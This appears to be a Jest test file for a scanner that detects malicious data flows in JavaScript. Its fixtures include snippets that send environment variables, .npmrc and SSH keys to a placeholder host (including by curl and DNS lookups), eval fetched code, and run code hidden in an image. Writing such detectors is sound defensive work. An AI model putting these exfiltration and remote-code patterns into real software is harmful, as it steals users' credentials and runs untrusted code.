import type { Signal } from '../../facts/signal';
import { readJavascript } from './read-javascript';

const ARRIVES: readonly Signal[] = ['secret-sent', 'identity-sent', 'remote-code', 'asset-code'];

function arriving(text: string): Signal[] {
  const seen = readJavascript('index.js', text).observations.map(({ signal }) => signal);
  return [...new Set(seen)].filter((signal) => ARRIVES.includes(signal)).sort();
}

describe('scanner/ast/javascript/flows', () => {
  it.each<[title: string, code: string, signals: Signal[]]>([
    [
      'the environment as the body of a request',
      "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
      ['secret-sent'],
    ],
    [
      'by way of names, an object and a function of the file',
      `const https = require('https');
       const all = { when: Date.now(), vars: process.env };
       function send(what) { const req = https.request({ host: 'a.invalid' }); req.write(what); req.end(); }
       send(JSON.stringify(all));`,
      ['secret-sent'],
    ],
    [
      'a file of credentials, read with a callback',
      `const fs = require('fs'), http = require('http'), os = require('os'), path = require('path');
       fs.readFile(path.join(os.homedir(), '.npmrc'), 'utf8', (error, text) => {
         const req = http.request('http://a.invalid', () => {}); req.end(text);
       });`,
      ['secret-sent'],
    ],
    [
      'collected in a list',
      `const fs = require('node:fs'); const axios = require('axios'); const found = [];
       for (const name of ['.ssh/id_rsa']) found.push(fs.readFileSync('/home/u/.ssh/id_rsa'));
       axios.post('https://a.invalid', { found });`,
      ['secret-sent'],
    ],
    [
      'in the name that is looked up',
      `const dns = require('dns');
       const hidden = Buffer.from(JSON.stringify(process.env)).toString('hex');
       dns.resolveTxt(hidden.slice(0, 60) + '.a.invalid', () => {});`,
      ['secret-sent'],
    ],
    [
      'by a command',
      `const { execSync } = require('child_process');
       const data = encodeURIComponent(JSON.stringify(process.env));
       execSync(\`curl -d \${data} https://a.invalid\`);`,
      ['secret-sent'],
    ],
    [
      'a field of this',
      `class Report { constructor() { this.vars = process.env; }
         send() { return fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(this.vars) }); } }`,
      ['secret-sent'],
    ],
    [
      'the name of the machine',
      `const os = require('os'); const https = require('https');
       https.get('https://a.invalid/?h=' + os.hostname());`,
      ['identity-sent'],
    ],
    [
      'fetched text that is evaluated',
      `const https = require('https');
       https.get('https://a.invalid', (res) => { let body = ''; res.on('data', (part) => (body += part));
         res.on('end', () => eval(body)); });`,
      ['remote-code'],
    ],
    [
      'fetched text that is made a function, by promises',
      "fetch('https://a.invalid').then((r) => r.text()).then((code) => new Function(code)())",
      ['remote-code'],
    ],
    [
      'a fetched command',
      `const { exec } = require('child_process');
       (async () => { const { data } = await require('axios').get('https://a.invalid'); exec(data); })();`,
      ['remote-code'],
    ],
    [
      'a picture that is evaluated',
      `const fs = require('fs');
       const hidden = fs.readFileSync(__dirname + '/logo.png').subarray(1000);
       eval(hidden.toString());`,
      ['asset-code'],
    ],
  ])('%s', (_title, code, signals) => {
    expect(arriving(code)).toEqual(signals);
  });

  it.each<[title: string, code: string]>([
    [
      'a token in a header',
      "fetch('https://a.example', { headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } })",
    ],
    ['a variable by name', "fetch('https://a.example/' + process.env.REGION)"],
    [
      'the environment for a program',
      `const { spawn } = require('child_process'); const env = { ...process.env, A: '1' };
       spawn('curl', ['https://a.example'], { env });`,
    ],
    ['names of variables', "fetch('https://a.example', { body: Object.keys(process.env).join() })"],
    [
      'a digest of the machine',
      `const os = require('os'); const { createHash } = require('crypto');
       fetch('https://a.example', { body: createHash('sha256').update(os.hostname()).digest('hex') });`,
    ],
    [
      'fetched data that is shown',
      "fetch('https://a.example').then((r) => r.json()).then((d) => console.log(d))",
    ],
    [
      'fetched bytes that are kept',
      `const fs = require('fs');
       require('https').get('https://a.example', (res) => res.pipe(fs.createWriteStream('/tmp/x')));`,
    ],
    [
      'a picture that is sent',
      "fetch('https://a.example', { body: require('fs').readFileSync('logo.png') })",
    ],
    [
      'own text that is evaluated beside a request',
      "fetch('https://a.example').then((r) => r.json()); new Function('a', 'return a + 1')(1)",
    ],
    ['a function of the file that is called fetch', 'function fetch(x) { return x } eval(fetch(template))'],
    [
      'credentials that are parsed',
      "const rc = require('fs').readFileSync('.npmrc', 'utf8'); console.log(rc.split('='))",
    ],
  ])('is silent about %s', (_title, code) => {
    expect(arriving(code)).toEqual([]);
  });

  it('ends on code that flows in circles and in depth', () => {
    const circle =
      'let a = process.env, b = {}; function f(x) { return g(x) } function g(x) { return x ? f(x) : x }';
    const chain = Array.from({ length: 3_000 }, (_, n) => `const v${n + 1} = [v${n}, v${n}];`).join('\n');

    expect(arriving(`${circle} b.a = a; a.b = b; fetch('https://a.example', f(a))`)).toEqual(['secret-sent']);
    expect(arriving(`const v0 = process.env;\n${chain}\nfetch('https://a.example', v3000)`)).toEqual([
      'secret-sent',
    ]);
  });
});
